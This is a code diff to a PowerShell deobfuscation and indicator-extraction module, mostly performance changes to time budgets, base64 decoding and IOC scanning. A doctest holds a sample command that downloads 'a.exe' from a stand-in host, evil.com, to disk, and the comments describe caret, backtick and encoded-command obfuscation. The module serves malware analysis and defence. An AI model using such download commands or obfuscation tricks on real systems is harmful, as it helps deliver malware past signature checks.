@@ -23,7 +23,8 @@ import zlib
 from dataclasses import dataclass, field
 from typing import Any
 
-from .tokenize import Token, string_value, tokenize, variable_name, word_value
+from ..native import native
+from .tokenize import Token, code_tokens, string_value, unescape, variable_name, word_value
 
 __all__ = ["Layer", "Result", "deobfuscate", "extract_iocs"]
 
@@ -73,21 +74,42 @@ class _Stop(Exception):
 
 
 class _Ctx:
-    __slots__ = ("deadline", "ticks", "reason", "max_bytes")
+    __slots__ = ("deadline", "end", "ticks", "reason", "max_bytes")
 
     def __init__(self, budget_ms: float, max_bytes: int) -> None:
-        self.deadline = time.perf_counter() + budget_ms / 1000.0
+        # the passes stop at `deadline`; the last tenth of the budget, up to `end`, is kept for
+        # the work after them (IOCs, the SecureString check), which stops at `end`
+        self.end = time.perf_counter() + budget_ms / 1000.0
+        self.deadline = self.end - budget_ms / 10_000.0
         self.ticks = 0
         self.reason: str | None = None
         self.max_bytes = max_bytes
 
     def tick(self, n: int = 1) -> None:
         self.ticks += n
-        if self.ticks >= 256:
+        if self.ticks >= 32:  # a clock read is ~50 ns; a step can cost far more on big tokens
             self.ticks = 0
             if time.perf_counter() > self.deadline:
                 self.reason = self.reason or "time budget"  # the first cause is the telling one
                 raise _Stop
+
+    def afford(self, chars: int) -> None:
+        """Stop (time budget) when work over *chars* characters, at ~20 ns each (decoding,
+        unescaping: single C calls the clock cannot interrupt), would end past the deadline."""
+        if chars > 100_000 and time.perf_counter() + chars * 20e-9 > self.deadline:
+            self.reason = self.reason or "time budget"
+            raise _Stop
+
+    def reserve(self, text: str) -> None:
+        """Keep time after the passes for the work on *text* that follows them (hashing,
+        lowering, slicing, freeing: a few ns a character), on top of the last tenth."""
+        self.deadline = min(self.deadline, self.end - len(text) * (4e-9 if text.isascii() else 12e-9))
+
+    def token_deadline(self) -> float:
+        """When tokenizing must stop: freeing the tokens later costs a third of making them, and
+        folding needs time too, so a scan may use 60% of what is left."""
+        now = time.perf_counter()
+        return now + 0.6 * (self.deadline - now)
 
     def size(self, n: int) -> None:
         if n > MAX_VALUE or n > self.max_bytes * 2:
@@ -249,32 +271,55 @@ def _is_reverse_index(idx: Any) -> bool:
 
 _OPEN = frozenset({"lparen", "lbrace", "subexpr", "arrayexpr", "hashtable", "lbracket"})
 _CLOSE = frozenset({"rparen", "rbrace", "rbracket"})
+_BRACKET_ROLES = {**dict.fromkeys(_OPEN, 1), **dict.fromkeys(_CLOSE, 2)}
+
+
+def _bracket_table(toks: list[Token]) -> list[int]:
+    """For each token the index of the bracket closing it (len(toks) when none)."""
+    if (c := native()) is not None:
+        return c.ps_brackets(toks, _BRACKET_ROLES)
+    n = len(toks)
+    close = [n] * n
+    stack: list[int] = []
+    for j, tok in enumerate(toks):
+        k = tok.kind
+        if k in _OPEN:
+            stack.append(j)
+        elif k in _CLOSE and stack:
+            close[stack.pop()] = j
+    return close
 
 
 class _Folder:
     """A constant folder over a token list: computes pure expressions, UNKNOWN for anything else."""
 
-    def __init__(self, toks: list[Token], env: dict[str, Any], ctx: _Ctx, techniques: set[str]) -> None:
+    def __init__(self, toks: list[Token], env: dict[str, Any], ctx: _Ctx, techniques: set[str],
+                 closes: list[list[int] | None] | None = None) -> None:
         self.t = toks
         self.n = len(toks)
         self.env = env
         self.ctx = ctx
         self.tech = techniques
         self.depth = 0
-        self._close: list[int] | None = None
+        # [bracket table or None], shared by the folders over the same token list
+        self._closes = closes if closes is not None else [None]
+        self._close: list[int] | None = self._closes[0]
 
     # -- helpers ---------------------------------------------------------------------------------
     def kind(self, i: int) -> str:
-        return self.t[i].kind if i < self.n else "eof"
+        return self.t[i][0] if i < self.n else "eof"
 
     def text(self, i: int) -> str:
         return self.t[i].text if i < self.n else ""
 
     def op(self, i: int) -> str:
         """The lower-cased operator at i, with a dash of any kind normalised to '-'."""
-        if i >= self.n or self.t[i].kind != "operator":
+        if i >= self.n:
             return ""
-        s = self.t[i].text.lower()
+        kind, s, _ = self.t[i]
+        if kind != "operator":
+            return ""
+        s = s.lower()
         return "-" + s[1:] if s[:1] in "\u2013\u2014\u2015" else s
 
     def adjacent(self, i: int) -> bool:
@@ -318,15 +363,7 @@ class _Folder:
     def match_close(self, i: int) -> int:
         """Index of the bracket closing the one at i (or n); one linear pass builds the whole table."""
         if self._close is None:
-            close = [self.n] * self.n
-            stack: list[int] = []
-            for j, tok in enumerate(self.t):
-                k = tok.kind
-                if k in _OPEN:
-                    stack.append(j)
-                elif k in _CLOSE and stack:
-                    close[stack.pop()] = j
-            self._close = close
+            self._close = self._closes[0] = _bracket_table(self.t)
         return self._close[i] if i < self.n else self.n
 
     _CMP = frozenset({
@@ -489,6 +526,7 @@ class _Folder:
         k = self.kind(i)
         if k == "string":
             tok = self.t[i]
+            self.ctx.afford(len(tok.text))
             s = string_value(tok)
             if tok.text[:1] not in "'\u2018\u2019\u201a\u201b" and "$" in s:
                 s2 = self.interpolate(s)
@@ -497,6 +535,7 @@ class _Folder:
                 self.tech.add("backticks")  # `t and `n are escapes; `W is there to break signatures
             return s, i + 1
         if k == "herestring":
+            self.ctx.afford(len(self.t[i].text))
             s = string_value(self.t[i])
             if self.t[i].text[1:2] not in "'\u2018\u2019\u201a\u201b" and "$" in s:
                 return self.interpolate(s), i + 1
@@ -991,11 +1030,17 @@ def _match_variable(pattern: str) -> tuple[str, Any] | None:
     return hits[0] if len(hits) == 1 else None
 
 
+_NOT_B64 = bytes(c for c in range(128) if not re.fullmatch(r"[A-Za-z0-9+/=_-]", chr(c)))
+
+
 def _b64(s: str, ctx: _Ctx) -> bytes:
     """Base64 as .NET decodes it, tolerant of whitespace and a damaged tail (reported)."""
-    s = re.sub(r"[\s]+", "", s)
+    s = "".join(s.split())  # str.split() and re's \s: the same whitespace (Py_UNICODE_ISSPACE)
     ctx.size(len(s) * 3 // 4)
-    body = re.sub(r"[^A-Za-z0-9+/=_-]", "", s).rstrip("=")
+    if s.isascii():  # bytes.translate deletes in C what the regex below removes
+        body = s.encode("ascii").translate(None, _NOT_B64).decode("ascii").rstrip("=")
+    else:
+        body = re.sub(r"[^A-Za-z0-9+/=_-]", "", s).rstrip("=")
     if body != s.rstrip("="):
         ctx.reason = ctx.reason or "invalid base64 characters"
     cut = len(body) - len(body) % 4
@@ -1019,9 +1064,15 @@ def _decode_utf16(data: bytes, ctx: _Ctx) -> str:
     return text.lstrip("\ufeff")
 
 
+# ASCII control characters but tab, newline and carriage return (deleted by bytes.translate)
+_CONTROLS = bytes(c for c in [*range(32), 127] if c not in (9, 10, 13))
+
+
 def _ascii_share(text: str) -> float:
+    """The share of printable ASCII, tab, CR and LF in the first 2,000 characters."""
     sample = text[:2000]
-    return sum(1 for ch in sample if " " <= ch <= "~" or ch in "\r\n\t") / max(len(sample), 1)
+    printable = sample.encode("ascii", "ignore").translate(None, _CONTROLS)
+    return len(printable) / max(len(sample), 1)
 
 
 # what UTF-16LE script text is made of; a byte or bit shift turns ASCII into U+2000.. or CJK
@@ -1115,6 +1166,7 @@ def _lenient_encoded(raw: str, ctx: _Ctx) -> tuple[str, str] | None:
 def _decode_encoded(raw: str, ctx: _Ctx) -> str:
     """-EncodedCommand's value: base64 of UTF-16LE. A value cut or shifted by a character or a
     byte (seen in the wild) is re-aligned when that turns noise into text; the repair is noted."""
+    ctx.afford(len(raw))
     probe = _Ctx(0, ctx.max_bytes)
     probe.deadline = ctx.deadline
     text = _decode_utf16(_b64(raw, probe), probe)
@@ -1130,7 +1182,7 @@ def _decode_encoded(raw: str, ctx: _Ctx) -> str:
     if _ascii_share(text) >= 0.9:
         return text
     best, best_share = text, _ascii_share(text)
-    raw = re.sub(r"\s+", "", raw)
+    raw = "".join(raw.split())
     for skip in range(1, 4):  # at most 3 characters and 1 byte: a bounded search
         probe = _Ctx(1000, ctx.max_bytes)
         data = _b64(raw[skip:], probe)
@@ -1188,6 +1240,20 @@ def _unquote(s: str) -> str:
     return s
 
 
+def _may_name_ps(s: str) -> bool:
+    """False when _PS_EXE cannot match in *s*, which is cheaper to tell than to run it (an
+    IGNORECASE pattern is tried at every character): its words need ASCII letters, or U+017F,
+    which IGNORECASE takes for 's' (str.lower() does not). The same holds for "cmd" and _CMD_EXE."""
+    low = s.lower()
+    return "powershell" in low or "pwsh" in low or "\u017f" in s
+
+
+def _uncaret(s: str) -> str:
+    """``re.sub(r"\\^(.)", r"\\1", s)``: cmd's escapes undone, by str methods (the regex makes a
+    Python call per caret)."""
+    return unescape(s, "^", {}, False) if "^" in s else s
+
+
 def _launcher(text: str, env: dict[str, Any], ctx: _Ctx) -> tuple[str, str] | None:
     """Unwrap one launcher level: (technique, inner text) or None when *text* is not a command line."""
     head = text[:4096]
@@ -1195,18 +1261,19 @@ def _launcher(text: str, env: dict[str, Any], ctx: _Ctx) -> tuple[str, str] | No
     if wmic is not None:
         inner = _unquote(text[wmic.start(1):].strip())
         return ("launcher", inner) if _PS_EXE.search(inner[:4096]) else None
-    cmd = _CMD_EXE.search(head)
+    cmd = _CMD_EXE.search(head) if "cmd" in head.lower() else None
     if cmd is not None and "^" in text[cmd.end():]:
+        ctx.afford(len(text))
         # cmd takes its caret escapes out first: p^owe^rshell is powershell, and carets in a
         # command line cmd runs are obfuscation, not anything cmd needs
-        bare = text[:cmd.end()] + re.sub(r"\^(.)", r"\1", text[cmd.end():])
-        m = _PS_EXE.search(bare[:4096])
+        bare = text[:cmd.end()] + _uncaret(text[cmd.end():])
+        m = _PS_EXE.search(bare[:4096]) if _may_name_ps(bare[:4096]) else None
         if m is None:
             return None
         found = _launcher(bare, env, ctx)
         return None if found is None else (
             ("carets", found[1]) if found[0] == "launcher" else found)
-    m = _PS_EXE.search(head)
+    m = _PS_EXE.search(head) if _may_name_ps(head) else None
     if m is None:
         return None
     via_cmd = cmd is not None and cmd.start() < m.start() and _EXE_PREFIX.fullmatch(text[: cmd.start() + 1]) is not None
@@ -1224,7 +1291,7 @@ def _launcher(text: str, env: dict[str, Any], ctx: _Ctx) -> tuple[str, str] | No
             env["clipboard"] = _unquote(em.group(1)).replace("^", "")
     args_text = text[m.end():]
     if via_cmd:
-        args_text = re.sub(r"\^(.)", r"\1", args_text)  # cmd's caret escapes
+        args_text = _uncaret(args_text)  # cmd's caret escapes
         args_text = args_text.rstrip().removesuffix('"') if text[cmd.end():].lstrip().startswith('"') else args_text
     for em in _ENC_PARAM.finditer(args_text[:8192]):
         if _param_kind(em.group(1)) == "enc":
@@ -1302,7 +1369,7 @@ def _stdin(text: str, ps_at: int, env: dict[str, Any]) -> tuple[str, str] | None
     pre = text[: ps_at + 1]
     em = re.search(r"(?is)\becho\s+(.*?)\s*\|[^|]*$", pre)
     if em:
-        return "launcher", _unquote(re.sub(r"\^(.)", r"\1", em.group(1)))
+        return "launcher", _unquote(_uncaret(em.group(1)))
     return None
 
 
@@ -1340,10 +1407,11 @@ def _statement_start(f: _Folder, p: int) -> int:
     return 0
 
 
-def _script_step(toks: list[Token], env: dict[str, Any], ctx: _Ctx) -> tuple[set[str], str] | None:
+def _script_step(toks: list[Token], env: dict[str, Any], ctx: _Ctx,
+                 closes: list[list[int] | None] | None = None) -> tuple[set[str], str] | None:
     """Find the first Invoke-Expression whose argument folds to a string: (techniques, that string)."""
     tech: set[str] = set()
-    f = _Folder(toks, env, ctx, tech)
+    f = _Folder(toks, env, ctx, tech, closes)
     n = len(toks)
     i = 0
     while i < n:
@@ -1433,6 +1501,7 @@ def _script_step(toks: list[Token], env: dict[str, Any], ctx: _Ctx) -> tuple[set
 # Random case: a lone lower-case letter between capitals (NeW, StE) or a capital closing a word
 # (NeW), never seen in CamelCase except in two-letter words (IsNullOrEmpty, ToString).
 _CASE_SIGNAL = re.compile(r"(?=([a-z][A-Z](?![A-Za-z])|[A-Z][a-z][A-Z]))")
+_CASE_ANY = re.compile(r"[a-z][A-Z](?![A-Za-z])|[A-Z][a-z][A-Z]")  # where _CASE_SIGNAL matches
 _LOWER_RUN = re.compile(r"[a-z]{3}")
 _TWO_LETTER = frozenset("Is Or To At By Of On In Id Do If As Up No Ok Db Ip Os Vm Ui Ad Ex Me My So We Be It Go Us".split())
 # with three rewrites or more, these make a fold a layer (a lone 'a'+'b' is how people write scripts)
@@ -1442,26 +1511,46 @@ _STRONG = frozenset({"backticks", "char-codes", "format", "reverse", "replace", 
 
 # a backtick before a letter that is no escape (`n, `t...) has no purpose but to break signatures
 _IDLE_BACKTICK = re.compile(r"`[1-9A-Zcdg-mo-su-zCDG-MO-SU-Z]")
+# what a word needs for _IDLE_BACKTICK or _CASE_SIGNAL to match in it
+_FOLD_HINT = re.compile(r"`|[a-z][A-Z]")
+_FOLD_ROLES = {"lparen": 1, "word": 2, "type": 2}
+
+
+def _fold_visit(toks: list[Token]) -> list[int]:
+    """The tokens _fold can rewrite: '(' and the words and types with a backtick or a
+    lower-upper pair; it passes over every other token (i += 1), so it visits these alone."""
+    if (c := native()) is not None:
+        return c.ps_fold_visit(toks, _FOLD_ROLES)
+    hint = _FOLD_HINT.search
+    return [x for x, t in enumerate(toks)
+            if t.kind == "lparen" or (t.kind in ("word", "type") and hint(t.text))]
 # a fold is a layer only with several rewrites, or one of these (a lone [char]27 is how people write)
 _DECISIVE = frozenset({"bxor", "base64", "deflate", "gzip", "reverse", "member-string", "backticks"})
 
 
 def _random_case(word: str) -> bool:
+    if _CASE_ANY.search(word) is None:  # no signal at all: the common case, one search
+        return False
     signals = [m.group(1) for m in _CASE_SIGNAL.finditer(word)]
     signals = [x for x in signals if not (len(x) == 3 and x[:2] in _TWO_LETTER)]
     return len(signals) >= 2 or (len(signals) == 1 and _LOWER_RUN.search(word) is None)
 
 
-def _fold(text: str, sig: list[Token], env: dict[str, Any], ctx: _Ctx) -> tuple[set[str], str]:
+def _fold(text: str, sig: list[Token], env: dict[str, Any], ctx: _Ctx,
+          closes: list[list[int] | None] | None = None) -> tuple[set[str], str]:
     """Rewrite what folds in place: ``("Down"+"load")`` -> ``'Download'``, ``I`E`X`` -> ``IEX``."""
     tech: set[str] = set()
-    f = _Folder(sig, dict(env), ctx, tech)
+    f = _Folder(sig, dict(env), ctx, tech, closes)
     edits: list[tuple[int, int, str]] = []
     cased: set[str] = set()
-    i = 0
     n = len(sig)
-    while i < n:
-        ctx.tick()
+    i = 0
+    prev = -1
+    for x in _fold_visit(sig):
+        if x < i:  # inside a parenthesis that folded
+            continue
+        ctx.tick(x - prev)
+        prev = i = x
         t = sig[i]
         if t.kind == "lparen":
             local: set[str] = set()
@@ -1702,7 +1791,7 @@ def _special_chars(text: str, env: dict[str, Any], ctx: _Ctx) -> str | None:
         return None
     new = "; ".join(rest)
     # a layer only when what is left runs a string (a look-alike that just prints stays as it is)
-    toks = [t for t in tokenize(new, deadline=ctx.deadline) if t.kind != "comment"]
+    toks = _tokens_in_time(new, ctx)
     return new if _script_step(toks, dict(env), ctx) is not None else None
 
 
@@ -1769,21 +1858,73 @@ def _is_host(s: str) -> bool:
 _PATH = re.compile(r"""(?i)(?:\b[a-z]:\\|%\w+%\\|\$env:\w+\\|\\\\[\w.-]+\\)[^\s'"`<>|*?;,()]+""")
 
 
+# Where a match of _URL, _PATH or _IP_CAND can start, found by patterns that begin with a literal
+# (re skips to it at memory speed; the patterns themselves try a match at every character, ~20
+# MB/s): "://" is 3 to 5 characters after a URL's start; a path starts with a drive letter before
+# ":\\", a '%', "$env:" or "\\\\"; an IPv4 candidate 1 to 3 digits before its first dot.
+_URL_AT = re.compile(r"://")
+# [eEnNvV] is (?i) here: no other character folds to them
+_PATH_AT = [re.compile(r":(?=\\)"), re.compile("%"), re.compile(r"\$(?=[eE][nN][vV]:)"),
+            re.compile(r"\\(?=\\)")]
+_IP_AT = re.compile(r"\.(?=\d{1,3}\.\d{1,3}\.\d)")
+
+
+class _Late(Exception):
+    """The IOC scan ran past its deadline."""
+
+
+def _finditer_at(rx: re.Pattern[str], text: str, starts: list[int],
+                 deadline: float | None = None) -> list[re.Match[str]]:
+    """rx.finditer(text) when every match of rx starts at one of *starts* (a superset): the
+    same matches, each tried only there. A match is the leftmost one at or after the end of
+    the previous, so trying the candidates in order and skipping those inside a match is exact."""
+    out = []
+    end = 0
+    for n, s in enumerate(sorted(set(starts))):
+        if deadline is not None and not n & 127 and time.perf_counter() > deadline:
+            raise _Late
+        if s >= end and (m := rx.match(text, s)) is not None:
+            out.append(m)
+            end = m.end()
+    return out
+
+
 def extract_iocs(text: str) -> dict[str, list[str]]:
     """URLs, domains, IPv4 addresses and file paths in *text*, in order of first appearance.
 
     >>> extract_iocs("(New-Object Net.WebClient).DownloadFile('http://evil.com/a.exe','C:\\\\t\\\\a.exe')")
     {'urls': ['http://evil.com/a.exe'], 'domains': ['evil.com'], 'ips': [], 'paths': ['C:\\\\t\\\\a.exe']}
     """
-    text = text[:IOC_SCAN]
+    return _iocs(text, None)[0]
 
+
+def _iocs(text: str, deadline: float | None) -> tuple[dict[str, list[str]], bool]:
+    """extract_iocs(text), and whether it finished: past *deadline* (a time.perf_counter()
+    value) the kinds not yet scanned stay empty and the one being scanned keeps what it found."""
+    found: dict[str, list[str]] = {"urls": [], "domains": [], "ips": [], "paths": []}
+    try:
+        _scan_iocs(text[:IOC_SCAN], found, deadline)
+    except _Late:
+        return found, False
+    return found, True
+
+
+def _scan_iocs(text: str, found: dict[str, list[str]], deadline: float | None) -> None:
     def uniq(xs: Any) -> list[str]:
         return list(dict.fromkeys(xs))[:1000]
 
-    urls = uniq(m.group().rstrip(".'\"") for m in _URL.finditer(text))
+    def late() -> None:
+        if deadline is not None and time.perf_counter() > deadline:
+            raise _Late
+
+    starts = [m.start() - d for m in _URL_AT.finditer(text) for d in (5, 4, 3) if m.start() >= d]
+    urls = found["urls"] = uniq(m.group().rstrip(".'\"") for m in _finditer_at(_URL, text, starts, deadline))
+    late()
     hosts = [re.sub(r"(?i)^[a-z]+://(?:[^@/]*@)?", "", u).split("/")[0].split(":")[0].split("?")[0].lower() for u in urls]
     bare = []
-    for m in _TLD_HIT.finditer(text):
+    for n, m in enumerate(_TLD_HIT.finditer(text)):
+        if not n & 31:
+            late()
         left = _LEFT.search(text, max(0, m.start() - 253), m.start())
         if left is None or text[m.end():m.end() + 1] == "(":
             continue
@@ -1791,13 +1932,28 @@ def extract_iocs(text: str) -> dict[str, list[str]]:
         before = text[left.start() - 1:left.start()] if left.start() else ""
         if "." in name and _is_host(name) and before not in ("@", "$", "\\", "/", "-"):
             bare.append(name)
-    domains = uniq([h for h in hosts if h and not _IP.fullmatch(h)] + bare)
-    ips = uniq(m.group() for m in _IP_CAND.finditer(text) if _IP.fullmatch(m.group()))
-    paths = uniq(m.group().rstrip(".") for m in _PATH.finditer(text))
-    return {"urls": urls, "domains": domains, "ips": ips, "paths": paths}
+    found["domains"] = uniq([h for h in hosts if h and not _IP.fullmatch(h)] + bare)
+    late()
+    starts = [m.start() - d for m in _IP_AT.finditer(text) for d in (3, 2, 1) if m.start() >= d]
+    found["ips"] = uniq(m.group() for m in _finditer_at(_IP_CAND, text, starts, deadline)
+                        if _IP.fullmatch(m.group()))
+    late()
+    starts = [m.start() - (m.group() == ":") for rx in _PATH_AT for m in rx.finditer(text)]
+    found["paths"] = uniq(m.group().rstrip(".") for m in _finditer_at(_PATH, text, starts, deadline))
 
 
 # -- driver ---------------------------------------------------------------------------------------
+
+
+def _tokens_in_time(text: str, ctx: _Ctx) -> list[Token]:
+    """code_tokens(text), or _Stop (time budget) when the scan was cut short: the tokenizer
+    stops at its deadline with the tokens so far, and a partial list must not be read as whole."""
+    limit = ctx.token_deadline()
+    toks = code_tokens(text, limit)
+    if time.perf_counter() > limit:
+        ctx.reason = ctx.reason or "time budget"
+        raise _Stop
+    return toks
 
 
 def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = MAX_LAYERS, max_bytes: int = MAX_BYTES) -> Result:
@@ -1822,9 +1978,11 @@ def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = M
             res.truncated, res.reason = True, "input size cap"
         env: dict[str, Any] = dict(_AUTO_VARS)
         cur = text
+        ctx.reserve(cur)
         seen = {cur}
         toks: list[Token] | None = None
         toks_of = ""
+        closes: list[list[int] | None] = [None]  # the bracket table of toks, once computed
         for _depth in range(max_layers + 1):
             if _depth == max_layers:
                 res.truncated, res.reason = True, res.reason or "layer cap"
@@ -1837,12 +1995,10 @@ def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = M
             if step is not None:
                 techs, nxt = {step[0]}, step[1]
             else:
-                toks = [t for t in tokenize(cur, deadline=ctx.deadline) if t.kind != "comment"]
-                if time.perf_counter() > ctx.deadline:
-                    ctx.reason = ctx.reason or "time budget"
-                    raise _Stop
+                toks = _tokens_in_time(cur, ctx)
                 toks_of = cur
-                found = (_script_step(toks, env, ctx) or _encoding_step(cur, env, ctx)
+                closes = [None]
+                found = (_script_step(toks, env, ctx, closes) or _encoding_step(cur, env, ctx)
                          or _child_powershell(cur, env, ctx))
                 if found is None:
                     break
@@ -1853,6 +2009,7 @@ def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = M
             if not nxt.strip() or nxt in seen:
                 break
             seen.add(nxt)
+            ctx.reserve(nxt)
             order = ["encodedcommand", "launcher", "base64", "deflate", "gzip", "bxor", "char-codes", "format", "concat", "join", "split", "replace", "reverse", "backticks", "case", "member-string", "iex-alias", "iex"]
             name = "+".join(t for t in order if t in techs) or "+".join(sorted(techs))
             res.layers.append(Layer(name, nxt))
@@ -1860,8 +2017,9 @@ def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = M
             cur = nxt
         if time.perf_counter() <= ctx.deadline:
             if toks is None or toks_of != cur:
-                toks = [t for t in tokenize(cur, deadline=ctx.deadline) if t.kind != "comment"]
-            techs, folded = _fold(cur, toks, env, ctx)
+                toks = _tokens_in_time(cur, ctx)
+                closes = [None]
+            techs, folded = _fold(cur, toks, env, ctx, closes)
             res.techniques.update(techs)
             if folded != cur:  # _fold keeps the text when what it undid is trivial
                 res.layers.append(Layer("+".join(sorted(techs)) or "fold", folded))
@@ -1878,15 +2036,30 @@ def deobfuscate(text: str | bytes, *, budget_ms: float = 50, max_layers: int = M
         res.reason = ctx.reason
         res.truncated = res.truncated or ctx.reason in ("time budget", "size cap", "depth cap", "decompression cap")
     res.final = res.layers[-1].text if res.layers else (text if isinstance(text, str) else "")
-    low = res.final.lower()
+    # str.lower() of a big non-ASCII text costs ~15 ns a character: look in its ASCII bytes
+    # first (these words can only come from ASCII letters and '-', adjacent once the rest is gone)
+    low8 = res.final.encode("ascii", "ignore").lower()
+    low = res.final.lower() if b"convertto-securestring" in low8 or b"securestringtobstr" in low8 else ""
     if "convertto-securestring" in low or "securestringtobstr" in low:
         res.secure_string = True
         res.techniques.add("securestring")
-    # out of time: IOCs from the head of each text only (the scan costs ~1 ms per 8 KB)
-    scan = IOC_SCAN if time.perf_counter() <= ctx.deadline else IOC_SCAN // 8
-    iocs = extract_iocs(res.final[:scan])
+    # out of time: IOCs from the head of each text only; past the end of the budget no more
+    now = time.perf_counter()
+    scan = IOC_SCAN if now <= ctx.deadline else IOC_SCAN // 8
+    # and no more than the rest of the budget can scan (~30 ns a character; the scan checks the
+    # clock between its steps only, so a long one must not start late)
+    affordable = max(0, int((ctx.end - now) / 40e-9))
+    done = affordable >= min(scan, max(len(x.text) for x in res.layers) if res.layers else len(res.final))
+    scan = min(scan, affordable)
+    iocs, finished = _iocs(res.final[:scan], ctx.end)
+    done = done and finished
     for layer in res.layers[:-1]:
-        for key, vals in extract_iocs(layer.text[:scan]).items():
+        if not done:
+            break
+        more, done = _iocs(layer.text[:scan], ctx.end)
+        for key, vals in more.items():
             iocs[key] = list(dict.fromkeys(iocs[key] + vals))
+    if not done:
+        res.truncated, res.reason = True, res.reason or "time budget"
     res.iocs = iocs
     return res
